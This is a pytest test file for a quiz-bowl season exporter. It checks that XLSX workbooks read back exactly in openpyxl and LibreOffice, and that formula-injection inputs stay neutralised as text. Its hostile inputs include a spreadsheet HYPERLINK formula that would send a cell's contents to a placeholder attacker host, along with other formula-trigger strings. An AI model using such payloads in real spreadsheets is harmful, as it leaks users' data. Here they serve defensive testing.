"""season.xlsx (writers/xlsx.py, site/exports.py): every cell reads back with openpyxl exactly as
written, a string cell, and LibreOffice opens the file and shows the same text (its CSV export of
every sheet, as Debian's libreoffice-calc-nogui writes it, compared with the rows)."""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import shutil
import subprocess
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from conftest import ROOT
from grandprix.errors import UsageError
from grandprix.season.config import load_season
from grandprix.season.model import AwardRows, Held, Line, Season
from grandprix.season.standings import division_standings
from grandprix.site.exports import (
    TEXT_EXPORTS,
    Tables,
    text_exports,
    write_exports,
    xlsx_bytes,
    xlsx_sheets,
)
from grandprix.writers import xlsx
from grandprix.writers.cells import FORMULA_STARTS
from grandprix.writers.xlsx import FORBIDDEN, column_name, write_workbook

Rows = list[list[str]]
SEASONS = ("utah-2012", "acf-2004")  # acf-2004 has divisions (Open, Junior, Women, ...)
EXCEL_LONGEST = 32_767  # the most characters Excel holds in a cell
HOSTILE = [
    "<b>&amp;</b> \"double\" 'single' ]]> <!-- -->",
    "bell\x07 nul\x00 escape\x1b vertical tab\x0b form feed\x0c",
    "tab\tinside",
    "line\nfeed",
    "carriage\rreturn",
    " leading and trailing spaces ",
    "\ttab first",
    "Ünïcödé Łódź 😀 𝄞 مرحبا 東京",
    "\ufeffbyte order mark, no-break\u00a0space, line\u2028separator",
    "\ufffe\uffff noncharacters",
    "_x0041_ and _x005F_x0042_ (escapes of ECMA-376, shown as written)",
    "L" * EXCEL_LONGEST,
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+cmd",
    "-1+2",
    "@SUM(1)",
    "#N/A",
    "0012",
    "TRUE",
]


def season_tables(name: str) -> tuple[Season, Tables]:
    season, problems = load_season(ROOT / "examples" / name)
    assert season is not None, problems
    return season, division_standings(season)


def hostile_tables(tables: Tables) -> Tables:
    """The tables with hostile text in every text column: divisions, player names and event
    names (each line's awards made again with hostile event names, the same of them counted)."""
    out: Tables = []
    for d, (division, lines) in enumerate(tables):
        changed: list[Line] = []
        for i, line in enumerate(lines):
            table = AwardRows()  # the line's awards, each with a hostile event name
            for k, a in enumerate(line.awards):
                table.add(
                    a._replace(origin=a.origin._replace(event_name=HOSTILE[(i + k) % len(HOSTILE)]))
                )
            row = {id(a): k for k, a in enumerate(line.awards)}
            counted = (
                None if line.held.counted_rows is None else tuple(row[id(a)] for a in line.counted)
            )
            held = Held(
                table, tuple(range(len(table))), counted, tuple(row[id(a)] for a in line.dropped)
            )
            changed.append(dataclasses.replace(line, name=HOSTILE[i % len(HOSTILE)], held=held))
        out.append((HOSTILE[d] + division, changed))
    return out


def written(rows: Sequence[Sequence[str]]) -> list[list[str | None]]:
    """What openpyxl reads back for ``rows``: the characters XML cannot hold left out, and a
    cell left empty (None) where nothing is left."""
    return [[FORBIDDEN.sub("", v) or None for v in row] for row in rows]


def read_back(data: bytes | Path, full: bool = True) -> dict[str, list[list[str | None]]]:
    """Every sheet's rows as openpyxl reads them, asserting every cell is a string cell: a
    value of type str ('s'), or empty and typed as a string, as openpyxl writes ''. Rows are
    as wide as the widest; with ``full`` every cell of them must be in the file."""
    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    kinds = {("s", str), ("inlineStr", type(None))} | (set() if full else {("n", type(None))})
    sheets: dict[str, list[list[str | None]]] = {}
    for sheet in book:
        rows = sheets.setdefault(sheet.title, [])
        for row in sheet.iter_rows():
            values: list[str | None] = []
            for cell in row:
                where = (sheet.title, cell.coordinate, cell.data_type, cell.value)
                assert (cell.data_type, type(cell.value)) in kinds, where
                assert cell.value is None or isinstance(cell.value, str)
                values.append(cell.value)
            rows.append(values)
    return sheets


def csv_rows(text: str) -> Rows:
    return list(csv.reader(io.StringIO(text, newline="")))


# openpyxl reads back what was written


@pytest.mark.parametrize("name", SEASONS)
def test_season_xlsx_reads_back_as_the_csv_exports(name: str, tmp_path: Path) -> None:
    season, tables = season_tables(name)
    assert write_exports(tmp_path, season, tables) == [*TEXT_EXPORTS, "season.xlsx"]
    texts = text_exports(season, tables)
    for export, text in texts.items():  # the CSV rows made in the same pass as the XLSX's
        assert (tmp_path / export).read_text(encoding="utf-8") == text, export
    got = read_back(tmp_path / "season.xlsx")
    assert list(got) == ["Standings", "Results"]
    for title, export in (("Standings", "standings.csv"), ("Results", "results.csv")):
        expected = csv_rows(texts[export])
        assert len(expected) > 10
        assert got[title] == written(expected), title
    if name == "acf-2004":
        assert {row[0] for row in got["Standings"][1:]} >= {"Open", "Junior", "Women"}


def test_results_beyond_a_sheet_go_on_in_more_sheets(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A sheet holds at most MAX_ROWS rows (1,048,576: the most Excel opens; a 100,000-event
    season has 5 million results): the results go on in Results 2, Results 3, ..., each with
    its header, and read back as results.csv. Shown here with a smaller limit."""
    season, tables = season_tables("acf-2004")
    texts = text_exports(season, tables)
    expected = csv_rows(texts["results.csv"])
    limit = len(csv_rows(texts["standings.csv"])) + 1  # the standings still fit in one sheet
    assert len(expected) > 2 * limit
    monkeypatch.setattr(xlsx, "MAX_ROWS", limit)
    write_exports(tmp_path, season, tables)
    got = read_back(tmp_path / "season.xlsx")
    parts = -(-(len(expected) - 1) // (limit - 1))
    assert list(got) == ["Standings", "Results", *(f"Results {n}" for n in range(2, parts + 1))]
    results = [got[name] for name in got if name != "Standings"]
    assert all(sheet[0] == expected[0] for sheet in results)
    assert all(len(sheet) <= limit for sheet in results)
    assert [row for sheet in results for row in sheet[1:]] == written(expected[1:])
    assert (tmp_path / "results.csv").read_text(encoding="utf-8") == texts["results.csv"]


def test_a_sheet_longer_than_a_sheet_can_be_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "MAX_ROWS", 3)
    xlsx_of([("Fits", [["a"], ["b"], ["c"]])])
    with pytest.raises(ValueError, match="at most 3 rows"):
        xlsx_of([("Long", [["a"], ["b"], ["c"], ["d"]])])


@pytest.mark.parametrize("name", SEASONS)
def test_hostile_text_reads_back_exactly_and_formulas_stay_neutralised(
    name: str, tmp_path: Path
) -> None:
    season, tables = season_tables(name)
    tables = hostile_tables(tables)
    write_exports(tmp_path, season, tables)
    got = read_back(tmp_path / "season.xlsx")
    # The rows, not the CSV files: a bare carriage return in a CSV field is not quoted by
    # Python's csv module with lineterminator '\n', so the CSV of such text reads back split.
    for title, rows in xlsx_sheets(season, tables):
        assert got[title] == written(list(rows)), title
    values = {v for rows in got.values() for row in rows for v in row if v}
    formulas = [v for v in HOSTILE if v.startswith(FORMULA_STARTS)]
    assert len(formulas) == 5 and not values & set(formulas)
    assert {"'" + v for v in formulas} | {"#N/A", "0012", "L" * EXCEL_LONGEST} <= values
    with zipfile.ZipFile(tmp_path / "season.xlsx") as book:
        for part in book.namelist():
            assert b"<f>" not in book.read(part) and b"<f " not in book.read(part), part


def test_every_kind_of_row_reads_back() -> None:
    """Plain rows, rows needing care, ragged, empty, wide (past column Z) rows; the writer
    leaves formulas to the caller: '=1+1' is a string cell all the same."""
    rows = [
        ["division", "name", "note"],
        ["", "Smith, Jo", ""],
        ["=1+1", " spaced ", "a&b"],
        ["short"],
        [],
        ["x"] * 30,
        ["", "", ""],
        *([f"r{i}", "plain", str(i)] for i in range(2_500)),  # several pieces of CHUNK rows
        HOSTILE,
    ]
    got = read_back(xlsx_of([("Rows", rows), ("More", [["1"]])]), full=False)
    expected = written(rows)
    # openpyxl makes every row as wide as the widest: the cells not in the file are None.
    width = max(map(len, rows))
    assert got["Rows"] == [row + [None] * (width - len(row)) for row in expected]
    assert got["More"] == [["1"]]


def xlsx_of(sheets: list[tuple[str, Rows]]) -> bytes:
    out = io.BytesIO()
    write_workbook(out, sheets)
    return out.getvalue()


TEXT = st.text(st.characters(exclude_categories=()), max_size=12) | st.sampled_from(HOSTILE[:-8])


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(TEXT, min_size=1, max_size=4), min_size=1, max_size=5))
def test_any_text_reads_back_but_what_xml_cannot_hold(rows: Rows) -> None:
    got = read_back(xlsx_of([("Any", rows)]), full=False)["Any"]
    expected = written(rows)
    width = max(map(len, rows))
    assert got == [row + [None] * (width - len(row)) for row in expected]


def test_the_bytes_depend_only_on_the_rows(tmp_path: Path) -> None:
    season, tables = season_tables("acf-2004")
    write_exports(tmp_path, season, tables)
    data = (tmp_path / "season.xlsx").read_bytes()
    assert xlsx_bytes(season, tables) == data
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert book.testzip() is None
        assert {info.date_time for info in book.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert book.namelist() == [
            "[Content_Types].xml",
            "_rels/.rels",
            "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels",
            "xl/styles.xml",
            "xl/worksheets/sheet1.xml",
            "xl/worksheets/sheet2.xml",
        ]


def test_sheet_names_spreadsheets_refuse_are_refused() -> None:
    for bad in ("", "x" * 32, "a/b", "[x]", "'quoted'", "tab\there"):
        with pytest.raises(UsageError, match="cannot name a sheet"):
            xlsx_of([(bad, [])])
    with pytest.raises(UsageError, match="two sheets of one name"):
        xlsx_of([("Results", []), ("results", [])])
    assert read_back(xlsx_of([('A & B <1> "q" ü', [["x"]])])) == {'A & B <1> "q" ü': [["x"]]}


def test_column_names() -> None:
    assert [column_name(i) for i in (0, 25, 26, 51, 52, 701, 702, 16_383)] == [
        "A", "Z", "AA", "AZ", "BA", "ZZ", "AAA", "XFD"
    ]  # fmt: skip


# LibreOffice opens it

LIBREOFFICE_PACKAGE = "libreoffice-calc-nogui"
# CSV filter options (LibreOffice 7.2 or later): comma, double quote, UTF-8, from line 1, no
# column formats, language 0, do not quote all text, detect special numbers (import only), save
# the cell contents not as shown, no formulas, keep spaces, and the last token, -1: every sheet
# into a file of its own, FILE-SHEET.csv.
CSV_FILTER = "csv:Text - txt - csv (StarCalc):44,34,UTF8,1,,0,false,true,false,false,false,-1"


def soffice() -> str:
    """Debian's LibreOffice. Skipped without it, except in CI, where it must be there."""
    found = shutil.which("soffice")
    if found is None:
        reason = (
            f"LibreOffice is not installed (.ci/run installs it: apt install {LIBREOFFICE_PACKAGE})"
        )
        if os.environ.get("CI"):
            pytest.fail(reason)
        pytest.skip(reason)
    return found


@pytest.fixture(scope="module")
def libreoffice(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[Path, dict[str, dict[str, Rows]]]]:
    """The workbooks of the examples, of the examples with hostile text and of the writer's own
    hostile rows, converted by one run of LibreOffice: the folder of its CSV files and the rows
    written, by file stem and sheet."""
    program = soffice()
    folder = tmp_path_factory.mktemp("libreoffice")
    written_rows: dict[str, dict[str, Rows]] = {}
    for name in SEASONS:
        season, tables = season_tables(name)
        for stem, these in ((name, tables), (f"{name}-hostile", hostile_tables(tables))):
            (folder / stem).mkdir()
            write_exports(folder / stem, season, these)
            (folder / stem / "season.xlsx").rename(folder / f"{stem}.xlsx")
            written_rows[stem] = {
                t: [list(r) for r in rows] for t, rows in xlsx_sheets(season, these)
            }
    raw = {"Raw": [["=1+1", "#N/A", "-1.50"], HOSTILE[:7], HOSTILE[7:14], HOSTILE[14:]]}
    (folder / "writer.xlsx").write_bytes(xlsx_of(list(raw.items())))
    written_rows["writer"] = raw
    done = subprocess.run(
        [program, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless",
         "--norestore", "--convert-to", CSV_FILTER, "--outdir", str(folder / "csv"),
         *(str(folder / f"{stem}.xlsx") for stem in written_rows)],
        capture_output=True, text=True, timeout=600, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr
    expected = sorted(
        f"{stem}-{sheet}.csv" for stem in written_rows for sheet in written_rows[stem]
    )
    assert sorted(p.name for p in (folder / "csv").iterdir()) == expected, done.stdout
    yield folder / "csv", written_rows


def as_libreoffice_shows(rows: Rows) -> Rows:
    """The rows as LibreOffice's CSV has them: what XML cannot hold left out, a carriage
    return before a line feed dropped (LibreOffice keeps a lone one), every row as wide as
    the widest."""
    width = max(map(len, rows))
    return [
        [FORBIDDEN.sub("", v).replace("\r\n", "\n") for v in row] + [""] * (width - len(row))
        for row in rows
    ]


@pytest.mark.parametrize("stem", [*SEASONS, *(f"{name}-hostile" for name in SEASONS), "writer"])
def test_libreoffice_shows_every_sheet_as_written(
    stem: str, libreoffice: tuple[Path, dict[str, dict[str, Rows]]]
) -> None:
    folder, written_rows = libreoffice
    for sheet, rows in written_rows[stem].items():
        path = folder / f"{stem}-{sheet}.csv"
        assert path.exists(), sorted(p.name for p in folder.iterdir())
        with path.open(encoding="utf-8", newline="") as file:  # a lone CR stays a CR
            got = list(csv.reader(file))
        assert got == as_libreoffice_shows(rows), (stem, sheet)
